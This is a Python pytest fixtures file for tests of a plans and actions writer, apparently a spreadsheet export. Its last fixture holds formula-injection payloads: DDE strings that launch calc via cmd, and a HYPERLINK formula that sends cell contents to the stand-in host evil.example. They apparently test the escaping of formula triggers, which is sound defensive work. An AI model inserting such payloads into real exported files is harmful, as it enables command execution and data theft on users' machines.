"""Fixtures for the writer tests: small realistic frames from factories.py."""
from __future__ import annotations

import importlib.util
import sys
from pathlib import Path

import pytest


def load_factories():
    name = "plans_writer_test_factories"
    if name not in sys.modules:
        spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name("factories.py"))
        module = importlib.util.module_from_spec(spec)
        sys.modules[name] = module
        spec.loader.exec_module(module)
    return sys.modules[name]


factories = load_factories()


@pytest.fixture
def actions():
    return factories.make_actions()


@pytest.fixture
def plans():
    return factories.make_plans()


@pytest.fixture
def sections():
    return factories.make_sections()


@pytest.fixture
def labels():
    return {kind: list(ids) for kind, ids in factories.LABELS.items()}


@pytest.fixture
def run_info():
    return dict(factories.RUN_INFO)


@pytest.fixture
def formula_actions(actions):
    """Every text column of every row starts with a formula trigger (=, +, -, @)."""
    frame = actions.copy()
    triggers = ["=", "+", "-", "@"]
    for i, column in enumerate(factories.TEXT_COLUMNS):
        frame[column] = [f"{triggers[(i + j) % 4]}cmd|' /C calc'!A{j}" for j in range(len(frame))]
    frame["action"] = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1"]
    return frame
